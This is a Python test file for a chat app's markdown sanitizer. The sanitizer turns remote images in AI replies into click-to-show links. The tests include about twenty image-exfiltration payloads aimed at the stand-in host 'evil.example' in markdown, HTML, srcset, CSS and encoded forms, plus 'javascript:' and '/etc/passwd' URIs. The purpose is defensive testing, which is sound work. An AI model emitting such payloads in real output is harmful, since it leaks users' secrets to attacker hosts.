"""Remote images in replies become click-to-open links (hfchat.safe_markdown).

Checked against a real CommonMark renderer with raw HTML on (markdown-it-py, which rich
brings): after `safe_images`, the rendered HTML asks the browser to fetch nothing but
`data:` URIs. Break 7 of the security issue.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from hfchat.backends.types import Delta
from hfchat.config import Backend
from hfchat.reply import Reply, ReplySource
from hfchat.safe_markdown import safe_images
from hfchat.ui.render import to_messages

LEAK = "http://evil.example:8080/leak.png?d=SECRET"
DATA = "data:image/png;base64,iVBORw0KGgo="
RENDER = MarkdownIt("commonmark", {"html": True})
FETCHING = {"src", "srcset", "lowsrc", "dynsrc", "poster", "background", "data", "imagesrcset", "xlink:href"}


class _Fetches(HTMLParser):
    """Every address the rendered HTML would load without a click."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if value is None:
                continue
            if name in FETCHING or (name == "href" and tag != "a"):
                self.urls += [c.split()[0] for c in value.split(",") if c.strip()] if "srcset" in name else [value]
            if name == "style" and "url(" in value.lower():
                self.urls.append(value)


def fetched(markdown: str) -> list[str]:
    """Addresses fetched when the markdown is rendered by CommonMark, or when its raw text is
    read as HTML the lenient way a browser does (marked passes more through than CommonMark)."""
    parser = _Fetches()
    parser.feed(_bogus_comments(RENDER.render(markdown)))
    parser.close()
    raw = _Fetches()
    raw.feed(_bogus_comments(markdown))
    raw.close()
    return [u for u in parser.urls + raw.urls if is_remote(u)]


def _bogus_comments(html: str) -> str:
    """`<![` starts a bogus comment in a browser (it loads nothing); Python's HTMLParser
    raises on it instead, so it is escaped before parsing."""
    return html.replace("<![", "&lt;![")


def is_remote(url: str) -> bool:
    """An address that names another host, as a browser reads it: leading and trailing
    spaces and control characters dropped, tabs and newlines inside removed, backslashes
    read as slashes. Empty and relative addresses (`<source src=>`, `src=![`) stay on the
    app's own origin, and data: URIs carry their bytes with them."""
    cleaned = re.sub(r"[\t\n\r]", "", url.strip("".join(map(chr, range(33))))).replace("\\", "/")
    if cleaned.lower().startswith("data:"):
        return False
    return cleaned.startswith("//") or re.match(r"[A-Za-z][A-Za-z0-9+.-]*:", cleaned) is not None


def links(markdown: str) -> list[str]:
    html = RENDER.render(markdown)
    return [part.split('"', 1)[0] for part in html.split('<a href="')[1:]]


TRICKY = [
    f"![]({LEAK})",
    f'look ![chart]({LEAK} "title") here',
    f"![a [nested] alt]({LEAK})",
    f"![alt](<{LEAK}>)",
    f"![x][ref]\n\n[ref]: {LEAK}",
    f"![x][]\n\n[X]: {LEAK} 'title'",
    f"![Ref]\n\n[ref]:\n  <{LEAK}>",
    f'<img src="{LEAK}">',
    f"<IMG SRC={LEAK}>",
    f"<img/src='{LEAK}'/>",
    f'<img alt=">" src="{LEAK}">',
    f'<img srcset="{LEAK} 2x, {DATA} 1x">',
    f'<picture><source srcset="{LEAK}"><img src="{DATA}"></picture>',
    f"<div style=\"background-image: url('{LEAK}')\">x</div>",
    '<img src="&#104;ttp://evil.example:8080/leak.png">',
    f'<svg><image href="{LEAK}"/></svg>',
    f'<video poster="{LEAK}"></video>',
    f"[![inner]({LEAK})](https://example.com/page)",
    f"!![]({LEAK})",
]


@pytest.mark.parametrize("text", TRICKY)
def test_no_remote_image_survives(text: str) -> None:
    assert fetched(text), f"the case must fetch before the rewrite: {text!r}"
    safe = safe_images(text)
    assert fetched(safe) == [], (text, safe)
    assert "SECRET" not in "".join(fetched(safe))


@pytest.mark.parametrize("text", [f"![]({LEAK})", f'<img src="{LEAK}">', f"![x][r]\n\n[r]: {LEAK}"])
def test_the_image_becomes_a_show_link(text: str) -> None:
    safe = safe_images(text)
    assert "image from evil.example:8080 — show" in safe
    assert links(safe) == [LEAK.replace("&", "&amp;")], safe


def test_data_images_and_code_are_kept() -> None:
    data = f"![dot]({DATA})"
    assert safe_images(data) == data
    assert safe_images(f'<img src="{DATA}">') == f'<img src="{DATA}">'
    code = f"```md\n![]({LEAK})\n<img src={LEAK}>\n```\nand `![]({LEAK})`"
    assert safe_images(code) == code
    plain = "No images here: 3 < 4 and a [link](https://example.com) ! [not one]"
    assert safe_images(plain) == plain


def test_other_schemes_are_never_made_clickable() -> None:
    safe = safe_images("![x](javascript:alert(1)) <img src='file:///etc/passwd'>")
    assert "javascript:" not in "".join(links(safe)) and "file:" not in "".join(links(safe))
    assert fetched(safe) == []


def test_an_unterminated_tag_mid_stream_is_a_link_already() -> None:
    assert "image from evil.example:8080 — show" in safe_images(f"so <img src={LEAK}")


def test_an_unreadable_image_is_escaped() -> None:
    safe = safe_images(f"![unclosed alt ({LEAK})")
    assert fetched(safe) == []


def test_replies_render_thinking_and_answer_safely() -> None:
    reply = Reply(ReplySource(Backend.ENDPOINT, "m"))
    reply.add(Delta(text=f"<think>peek ![]({LEAK})</think>Here: <img src='{LEAK}'>"))
    reply.finish()
    contents = [m["content"] for m in to_messages(reply.view(show_speed=False))]
    assert len(contents) == 2
    for content in contents:
        assert fetched(content) == [] and "image from evil.example:8080 — show" in content


pieces = st.sampled_from(
    [
        "![", "]", "[", "(", ")", "<", ">", "img", "IMG", " src=", " srcset=", '"', "'", "`", "```\n", "\n",
        "\\", " ", "x", LEAK, DATA, "[r]: ", "<img ", "![a](", "style=url(", "&#104;", "/", "<source ",
    ]
)  # fmt: skip


@settings(max_examples=1000, deadline=None)
@given(st.lists(pieces, max_size=25).map("".join))
def test_no_combination_of_pieces_fetches_a_remote_image(text: str) -> None:
    assert fetched(safe_images(text)) == []


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_characters="![<`\\~"), max_size=200))
def test_text_without_images_is_unchanged(text: str) -> None:
    assert safe_images(text) == text
